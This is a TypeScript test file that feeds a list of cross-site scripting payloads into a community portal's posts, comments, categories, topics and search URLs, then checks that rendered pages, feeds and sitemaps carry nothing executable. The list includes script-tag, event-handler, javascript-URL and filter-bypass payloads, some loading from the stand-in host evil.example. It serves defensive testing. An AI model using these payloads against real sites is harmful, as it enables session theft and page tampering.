import { beforeAll, expect, test } from 'vitest';
import { makeCustomField } from '#features/base/customFields/server/customFieldFactories.ts';
import { makeCategory, makeTopic } from '#features/content/taxonomy/server/taxonomyFactories.ts';
import { makeMember } from '#features/people/members/server/memberFactories.ts';
import { expectSafe } from '#platform/testing/expectSafe.ts';
import { type Login, openPortalForFile, type PortalAnswer } from '#platform/testing/portal.ts';

const { portal, db } = await openPortalForFile();
let admin: Login;
let topicId = '';

beforeAll(async () => {
  const [name = ''] = hostile;
  await makeCustomField(db, { key: 'note', kind: 'LONG_TEXT', names: { en: name } });
  admin = await portal.login((await makeMember(db, { role: 'administrator' })).id);
  topicId = `${(await makeTopic(db, (await makeCategory(db)).id)).id}`;
});

/** Each would run `pwned()` or load from evil.example if it reached a page as it is. */
const hostile = [
  '<script>pwned()</script>',
  '"><script>pwned()</script>',
  "'-pwned()-'",
  '</script><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '<!--<script>pwned()',
  ']]><script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '"onmouseover="pwned()',
  '<svg/onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<math><mi//xlink:href="data:x,<script>pwned()</script>">',
  '<a href="javascript:pwned()">x</a>',
  '<a href="java\tscript:pwned()">x</a>',
  '<a href=" &#106;avascript:pwned()">x</a>',
  '<a href="data:text/html,<script>pwned()</script>">x</a>',
  '<a href="vbscript:pwned()">x</a>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="<script>pwned()</script>">',
  '<object data="//evil.example/x.swf">',
  '<embed src="//evil.example">',
  '<form action="//evil.example"><input name=p>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<button formaction=javascript:pwned()>x</button>',
  '<isindex action=javascript:pwned()>',
  ['$', '{pwned()}{{pwned()}}<%= pwned() %>'].join(''),
  '\u2028pwned()\u2029',
  '<scr\u0000ipt>pwned()</script>',
  '<div id="__reactRouterContext"></div><img name=getElementById>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '[x](javascript:pwned())',
  '<xmp><script>pwned()</script></xmp>',
  '<p><table><script>pwned()</script>',
  '<select><template><img src=x onerror=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<mglyph><style><img src=x onerror=pwned()></style></mglyph>',
  '<span class="fixed inset-0 z-50" id="root" name="body">x</span>',
];

/** Tags and attributes outside scripts, as a browser would see them. */
function expectNothingRuns(page: PortalAnswer, label: string): void {
  expectSafe(page, label);
  expect(page.headers['content-security-policy'], label).toContain('script-src');
  const scripts = [...page.text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script/gi)];
  for (const [, attributes = '', body = ''] of scripts) {
    if (/ld\+json/.test(attributes)) JSON.parse(body);
  }
  const markup = page.text.replace(/<script\b[^>]*>[\s\S]*?<\/script\s*>/gi, '<script></script>');
  const tags = markup.matchAll(
    /<[a-z][^\s/>]*(?:\s+[^\s=>]+(?:=(?:"[^"]*"|'[^']*'|[^\s>]*))?)*\s*\/?>/gi,
  );
  // Thousands of attributes a page: one comparison for them all.
  expect(
    [
      ...scripts.filter(([, attributes = '', body = '']) => isHostileScript(attributes, body)),
      ...[...tags].filter(([tag]) => isHostileTag(tag)),
    ].map(([found]) => found.slice(0, 200)),
    label,
  ).toEqual([]);
}

/** Data for hydration may carry the words, escaped; never a way out of it. */
function isHostileScript(attributes: string, body: string): boolean {
  return /<\/?script|<!--/i.test(body) || /evil|pwned/.test(attributes);
}

function isHostileTag(tag: string): boolean {
  if (tag === '<noscript>') return false; // around the page's own forms
  if (/^<(?:iframe|object|embed|base|frame|math|template|xmp|noscript)\b/i.test(tag)) return true;
  const leads = /\b(?:href|src|action)="(?:https?:)?\/\/evil/.test(tag);
  if (leads && !/^<(?:a|img)\b/i.test(tag)) return true;
  const attributes = tag.matchAll(
    /\s([^\s=>"']+)(?==|[\s/>])(?:=(?:"([^"]*)"|'([^']*)'|([^\s>]*)))?/g,
  );
  return [...attributes].some(
    ([, name = '', quoted, single, bare]) =>
      /^(?:on.*|style|http-equiv|srcdoc|formaction)$/i.test(name) ||
      (/^(?:href|src|action|data|xlink:href|poster)$/i.test(name) &&
        /^\s*(?:javascript|vbscript|data:text|data:x|java\s)/i.test(
          quoted ?? single ?? bare ?? '',
        )),
  );
}

const html = { accept: 'text/html' };
const mutation = (name: string, selection: string) =>
  `mutation($input: ${name.charAt(0).toUpperCase()}${name.slice(1)}Input!) { ${name}(input: $input) { ${selection} } }`;

async function send(name: string, selection: string, input: object): Promise<PortalAnswer> {
  const answer = await portal.graphql(mutation(name, selection), {
    variables: { input },
    login: admin,
  });
  expectSafe(answer, `${name} ${JSON.stringify(input).slice(0, 300)}`);
  return answer;
}

async function visit(path: string, label: string): Promise<void> {
  const cookie = admin.cookie;
  for (const headers of [html, { ...html, cookie }] as Record<string, string>[]) {
    let page = await portal.ask(path, { headers });
    for (let hop = 0; hop < 3 && page.status >= 300 && page.status < 400; hop += 1) {
      const to = new URL(page.headers.location ?? '', `http://127.0.0.1:${portal.port}`);
      expect(to.host, label).toBe(`127.0.0.1:${portal.port}`);
      page = await portal.ask(to.pathname + to.search, { headers });
    }
    expect(page.status, `${label} ${path}`).toBe(200);
    expectNothingRuns(page, `${label} ${path}`);
  }
}

test('the check sees what it is there for', () => {
  const page = (body: string): PortalAnswer => ({
    status: 200,
    text: body,
    json: null,
    headers: {
      'content-type': 'text/html',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'SAMEORIGIN',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'content-security-policy': [
        "default-src 'self'",
        "script-src 'self'",
        "object-src 'none'",
        "frame-ancestors 'self'",
      ].join('; '),
    },
  });
  for (const bad of [
    '<img src=x onerror=pwned()>',
    '<a href="javascript:pwned()">',
    '<iframe src="//evil.example">',
    '<p style="x">',
    '<script><!-- </script>',
    '<base href="//evil.example/">',
  ]) {
    expect(() => expectNothingRuns(page(bad), ''), bad).toThrow();
  }
  expectNothingRuns(page('<p title="<script>">fine</p>'), '');
});

test.each(hostile)('in a post: %s', async (text) => {
  const media = [
    {
      source: text,
      name: text,
      caption: text,
      description: text,
      thumbnailUrl: text,
      type: 'IMAGE',
    },
  ];
  const full = {
    title: `Post of ${text}`,
    content: `<p>A long enough body ${text}</p>`,
    communityPostType: 'ARTICLE',
    topics: [topicId],
    tags: [text.slice(0, 30)],
    metaTitle: text,
    metaDescription: text,
    previewDescription: text,
    featuredImage: text,
    attachments: media,
    inlineMedia: media,
    customFields: { note: text },
    country: text,
    language: text,
  };
  const plain = {
    title: full.title,
    content: full.content,
    communityPostType: 'QUESTION',
    topics: [topicId],
  };
  const post = async (input: object, label: string): Promise<boolean> => {
    const made = (await send('createConversation', 'conversation { id path }', input)).json.data
      ?.createConversation?.conversation;
    if (made) await visit(made.path, `${label} ${text}`);
    return Boolean(made);
  };
  if (await post(full, 'full')) return;
  // What is taken alone is shown together: a page for each would say no more.
  const taken: object[] = [plain];
  for (const [key, value] of Object.entries(full).filter(([key]) => !(key in plain))) {
    const input = { ...plain, [key]: value };
    const answer = await send('createConversation', 'conversation { id }', input);
    if (answer.json.data?.createConversation) taken.push({ [key]: value });
  }
  expect(await post(Object.assign({}, ...taken), 'taken together')).toBe(true);
});

test.each(hostile)('in a comment, a reply, a category and a topic: %s', async (text) => {
  const made = (
    await send('createConversation', 'conversation { id path }', {
      title: 'A plain title',
      content: '<p>A plain body, long enough.</p>',
      communityPostType: 'QUESTION',
      topics: [topicId],
    })
  ).json.data.createConversation.conversation;
  const message = `<p>A long enough answer ${text}</p>`;
  const comment = (await send('createComment', 'comment { id }', { objectId: made.id, message }))
    .json.data?.createComment?.comment;
  expect(comment, text).toBeTruthy();
  await send('createReply', 'clientMutationId', { objectId: comment.id, message });
  const media = [{ source: text, name: text, caption: text, type: text }];
  await send('createComment', 'comment { id }', {
    objectId: made.id,
    message,
    attachments: media,
    inlineMedia: media,
  });
  await send('updateConversation', 'clientMutationId', {
    id: made.id,
    content: message,
    title: `Edited ${text}`,
  });
  await visit(
    (await portal.graphql(`{ conversation(id: "${made.id}") { path } }`)).json.data.conversation
      .path,
    text,
  );
  const category =
    (
      await send('createCategory', 'category { id path }', {
        title: text.slice(0, 60),
        description: text,
        image: text,
        tags: [text.slice(0, 20)],
        banner: {
          type: 'IMAGE',
          desktopImage: text,
          mobileImage: text,
          color: text,
          altText: text,
        },
      })
    ).json.data?.createCategory?.category ??
    (
      await send('createCategory', 'category { id path }', {
        title: text.slice(0, 60),
        description: text,
      })
    ).json.data?.createCategory?.category;
  if (category) await visit(category.path, text);
  const topic = (
    await send('createTopic', 'topic { id path }', {
      categoryId: category?.id ?? '1',
      title: text.slice(0, 60),
      description: text,
    })
  ).json.data?.createTopic?.topic;
  if (topic) await visit(topic.path, text);
});

test('lists, search, tags, feeds and sitemaps of all that carry nothing that runs', async () => {
  for (const address of [
    '/',
    '/topics',
    '/categories',
    '/tags',
    '/leaderboard',
    '/conversations/search?q=script',
    '/conversations/search?q=%3Cscript%3Epwned()%3C/script%3E',
    '/conversations/new',
    '/login?returnTo=javascript:pwned()',
    '/login?error=%3Cscript%3Epwned()%3C/script%3E',
    `/?q=%22%3E%3Cscript%3Epwned()%3C/script%3E`,
    '/tags?q=%3C/script%3E%3Cscript%3Epwned()',
  ]) {
    for (const headers of [html, { ...html, cookie: admin.cookie }] as Record<string, string>[]) {
      const page = await portal.ask(address, { headers });
      if (page.status < 400 && page.status >= 300) continue;
      expectNothingRuns(page, address);
    }
  }
  for (const address of [
    '/feeds/community.rss',
    '/feeds/community.atom',
    '/sitemap.xml',
    '/sitemaps/conversations-1.xml',
    '/sitemaps/topics.xml',
    '/manifest.json',
    '/opensearch.xml',
    '/icon.svg',
  ]) {
    const answer = await portal.ask(address);
    expectSafe(answer, address);
    expect(answer.status).toBe(200);
    const markup = answer.text.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '');
    expect(markup, address).not.toMatch(/<script|onerror=pwned|<img/i);
    expect(answer.text, address).not.toMatch(/(?:href|src)="\s*javascript:/i);
  }
});
